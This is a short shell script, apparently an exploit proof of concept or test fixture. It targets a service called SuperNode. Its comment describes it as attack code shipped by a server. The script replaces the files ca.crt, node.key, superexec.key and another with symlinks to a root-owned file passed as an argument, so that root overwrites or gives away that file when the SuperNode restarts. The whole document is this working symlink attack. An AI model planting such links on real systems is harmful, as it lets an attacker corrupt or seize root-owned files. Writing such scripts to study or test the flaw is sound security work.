#!/bin/sh
# An attack: code that the server ships, in the SuperNode's folder, leaves links to a file of root's
# ($1) where root writes and gives away files when it starts the SuperNode again; then it ends.
for name in ca.crt node.key superexec.key other; do
  ln -sf "$1" "$name"
done
